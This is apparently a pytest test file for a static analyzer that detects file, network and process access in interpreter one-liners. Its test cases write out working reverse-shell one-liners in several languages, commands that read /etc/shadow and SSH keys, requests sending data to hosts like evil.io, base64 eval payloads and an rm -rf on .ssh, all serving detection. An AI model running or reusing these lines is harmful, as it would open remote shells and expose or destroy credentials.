"""Interpreter one-liners: file, network and process access found by the static scan."""

from __future__ import annotations

import pytest
from crustcore_nano.shell import ShellAnalysis, ShellSignal, analyze
from crustcore_nano.shell.interp import looks_like_path, scan_code
from crustcore_nano.shell.limits import Budget
from hypothesis import given, settings
from hypothesis import strategies as st

HOME = "/home/u"


def _an(text: str) -> ShellAnalysis:
    return analyze(text, home=HOME)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("python3 -c \"print(open('/home/u/.env').read())\"", "/home/u/.env"),
        (
            "python -c 'import pathlib; pathlib.Path(\"~/.aws/credentials\").read_text()'",
            "~/.aws/credentials",
        ),
        ("node -e \"require('fs').readFileSync('.npmrc','utf8')\"", ".npmrc"),
        ("node --eval \"fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')\"", "/.ssh/id_rsa"),
        ("perl -e 'open(F, \"/home/u/.ssh/id_rsa\"); print <F>'", "/home/u/.ssh/id_rsa"),
        ("perl -ne 'print' /etc/shadow", "/etc/shadow"),
        ("ruby -e 'puts File.read(\"/etc/shadow\")'", "/etc/shadow"),
        ("php -r 'readfile(\".env\");'", ".env"),
        ("php -r 'echo file_get_contents(\"config.php\");'", "config.php"),
        ("awk 'BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }'", "/etc/shadow"),
        ("python3 -c \"open('\\x2fetc\\x2fshadow')\"", "/etc/shadow"),
    ],
)
def test_code_reads(text: str, path: str) -> None:
    a = _an(text)
    assert path in a.reads, (text, a.reads)
    assert any(f.code is not None for f in a.commands)


def test_python_write_mode_is_a_write() -> None:
    a = _an("python -c \"open('/home/u/.bashrc', 'a').write('x')\"")
    assert a.writes == ("/home/u/.bashrc",)
    assert a.reads == ()


def test_node_write_and_delete() -> None:
    a = _an("node -e \"fs.writeFileSync('.mcp.json', '{}'); fs.unlinkSync('old.txt')\"")
    assert ".mcp.json" in a.writes
    assert "old.txt" in a.deletes


@pytest.mark.parametrize(
    ("text", "host"),
    [
        (
            "python -c \"import urllib.request; urllib.request.urlopen('http://evil.io/x')\"",
            "evil.io",
        ),
        ("python3 -c \"import requests; requests.post('https://x.io', data=1)\"", "x.io"),
        ("node -e \"fetch('https://api.evil.io/collect')\"", "api.evil.io"),
        ("python -c \"import socket; s=socket.create_connection(('10.9.8.7', 4444))\"", "10.9.8.7"),
        ("ruby -rsocket -e 'TCPSocket.new(\"10.0.0.5\", 9001)'", "10.0.0.5"),
        ("php -r '$s=fsockopen(\"10.0.0.6\",1234);'", "10.0.0.6"),
        ("deno eval \"await fetch('https://d.evil.io')\"", "d.evil.io"),
    ],
)
def test_code_network(text: str, host: str) -> None:
    a = _an(text)
    assert host in [n.host for n in a.network], (text, a.network)


def test_socket_port_is_read_from_the_call() -> None:
    a = _an("python -c \"import socket; socket.create_connection(('10.9.8.7', 4444))\"")
    assert [(n.host, n.port) for n in a.network] == [("10.9.8.7", 4444)]


@pytest.mark.parametrize(
    "text",
    [
        "python -c 'print(1)'",
        "python3 -c 'import sys; print(sys.version)'",
        "node -e 'console.log(1+1)'",
        "node -p 'process.version'",
        "perl -e 'print \"hello\\n\"'",
        "ruby -e 'puts 42'",
        "php -r 'echo PHP_VERSION;'",
        "python -m pytest -q tests",
        "python3 -m pip install -r requirements.txt",
        "awk '{s+=$1} END {print s}' nums.txt",
    ],
)
def test_benign_one_liners_have_no_access(text: str) -> None:
    a = _an(text)
    assert a.network == ()
    assert a.signals == frozenset()
    assert a.writes == ()
    assert all(not path.startswith(("/", "~")) for path in a.reads)


@pytest.mark.parametrize(
    "text",
    [
        "python -c \"import os; os.system('cat /etc/shadow')\"",
        "python3 -c \"import subprocess; subprocess.run('cat /etc/shadow', shell=True)\"",
        "python3 -c \"import subprocess; subprocess.run(['cat', '/etc/shadow'])\"",
        "node -e \"require('child_process').execSync('cat /etc/shadow')\"",
        "perl -e 'system(\"cat /etc/shadow\")'",
        "ruby -e 'system(\"cat /etc/shadow\")'",
        "php -r 'shell_exec(\"cat /etc/shadow\");'",
        "awk 'BEGIN { system(\"cat /etc/shadow\") }'",
        "osascript -e 'do shell script \"cat /etc/shadow\"'",
    ],
)
def test_spawned_shell_commands_are_analysed(text: str) -> None:
    a = _an(text)
    assert "/etc/shadow" in a.reads
    assert any(f.name == "cat" and f.depth >= 1 for f in a.commands), a.commands


@pytest.mark.parametrize(
    "text",
    [
        "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
        'socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);'
        'os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
        'python3 -c \'import pty,socket;s=socket.socket();s.connect(("h.io",9));'
        'pty.spawn("/bin/bash")\'',
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'connect(S,sockaddr_in(1234,inet_aton("10.0.0.1")));open(STDIN,">&S");'
        'exec("/bin/sh -i");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",1234).to_i;'
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
        'php -r \'$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        "node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
        "var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);"
        'sh.stdout.pipe(c);});"',
        'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) {printf "> " |& s; '
        "s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}'",
    ],
)
def test_reverse_shell_one_liners(text: str) -> None:
    assert ShellSignal.REVERSE_SHELL in _an(text).signals


@pytest.mark.parametrize(
    "text",
    [
        "python -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
        "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
        "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
        "php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'",
    ],
)
def test_decode_and_eval_in_code_is_obfuscation(text: str) -> None:
    assert ShellSignal.INTERPRETER_OBFUSCATION in _an(text).signals


def test_python_heredoc_is_scanned_and_flagged() -> None:
    a = _an("python3 <<'PY'\nimport os\nprint(open(os.path.expanduser('~/.netrc')).read())\nPY")
    assert "~/.netrc" in a.reads
    assert ShellSignal.HEREDOC_TO_INTERPRETER in a.signals


def test_python_script_file_is_read_and_executed() -> None:
    a = _an("python3 scripts/build.py --fast")
    assert "scripts/build.py" in a.reads
    assert "scripts/build.py" in a.executes
    assert a.signals == frozenset()


def test_python_http_server_listens() -> None:
    (target,) = _an("python3 -m http.server 9000").network
    assert target.listen
    assert target.port == 9000


def test_unknown_code_is_unresolved() -> None:
    assert ShellSignal.UNRESOLVED_CODE in _an('python -c "$CODE"').signals


def test_scan_code_is_direct_and_bounded() -> None:
    budget = Budget(10_000)
    result = scan_code("python", "x = '/etc/hosts'; y = 'https://a.io/b'", budget)
    assert result.reads == ("/etc/hosts",)
    assert [n.host for n in result.network] == ["a.io"]
    assert budget.steps < 10_000


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/etc/passwd", True),
        ("~/.ssh", True),
        (".env", True),
        ("src/app.py", True),
        ("hello world", False),
        ("https://x.io/a", False),
        ("", False),
        ("..", False),
        ("-v", False),
    ],
)
def test_looks_like_path(text: str, expected: bool) -> None:
    assert looks_like_path(text) is expected


def test_perl_backticks_run_commands() -> None:
    a = _an("perl -e 'print `cat /etc/shadow`'")
    assert "/etc/shadow" in a.reads


def test_awk_redirection_and_pipes() -> None:
    a = _an('awk \'BEGIN { print "x" > "/tmp/out"; "id" | getline u }\'')
    assert a.writes == ("/tmp/out",)
    assert "id" in a.executes


def test_python_f_string_command() -> None:
    a = _an("python3 -c 'import os; os.system(f\"rm -rf {d}/.ssh\")'")
    assert any(f.name == "rm" for f in a.commands)


def test_node_spawn_with_argument_list() -> None:
    a = _an("node -e \"require('child_process').spawn('sh', ['-c', 'cat /etc/shadow'])\"")
    assert "/etc/shadow" in a.reads


def test_code_reading_its_argv_reads_path_arguments() -> None:
    a = _an("python3 -c 'import sys; print(open(sys.argv[1]).read())' ~/.ssh/id_rsa")
    assert "/home/u/.ssh/id_rsa" in a.reads
    b = _an("node -e 'console.log(process.argv.length)' 1 2")
    assert b.reads == ()


@pytest.mark.parametrize(
    ("language", "code", "reads", "writes", "commands", "hidden"),
    [
        ("python", 'open("/a/." + "netrc")', ("/a/.netrc",), (), (), False),
        ("python", 'open("/a/" "b")', ("/a/b",), (), (), False),  # adjacent literals
        ("python", 'open("/a/" + "b", "w")', (), ("/a/b",), (), False),
        ("python", 'os.system("cat {}".format("/x"))', (), (), ("cat /x",), False),
        ("python", 'os.system("cat {0}".format("/x"))', (), (), ("cat /x",), False),
        ("python", 'os.system("cat %s" % "/x")', (), (), ("cat /x",), False),
        ("python", 'f("a", "b")', (), (), (), False),  # a comma joins nothing
        ("python", 'getattr(os, "sys" + "tem")("id")', (), (), (), True),
        ("node", 'fs.readFileSync("/a/." + "netrc")', ("/a/.netrc",), (), (), False),
        ("node", 'require("child_" + "process")', (), (), (), True),
        ("perl", 'open F, "/a/." . "netrc"', ("/a/.netrc",), (), (), False),
        ("lua", 'io.open("/a/." .. "netrc")', ("/a/.netrc",), (), (), False),
        ("julia", 'read("/a/." * "netrc", String)', ("/a/.netrc",), (), (), False),
        ("ruby", 'puts "sub" + "process done"', (), (), (), False),
    ],
)
def test_strings_built_from_literals_are_read_whole(
    *,
    language: str,
    code: str,
    reads: tuple[str, ...],
    writes: tuple[str, ...],
    commands: tuple[str, ...],
    hidden: bool,
) -> None:
    found = scan_code(language, code, Budget(10_000))
    for path in reads:
        assert path in found.reads, (code, found)
    for path in writes:
        assert path in found.writes, (code, found)
    for command in commands:
        assert command in found.commands, (code, found)
    assert found.obfuscated is hidden, (code, found)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.text(alphabet="ab/.~ _", min_size=1, max_size=8), min_size=2, max_size=6),
    st.sampled_from([" + ", "+", " "]),
)
def test_a_python_concatenation_is_read_as_its_whole_string(pieces: list[str], joiner: str) -> None:
    code = "open(" + joiner.join(f'"{p}"' for p in pieces) + ")"
    found = scan_code("python", code, Budget(10_000))
    assert "".join(pieces) in found.reads
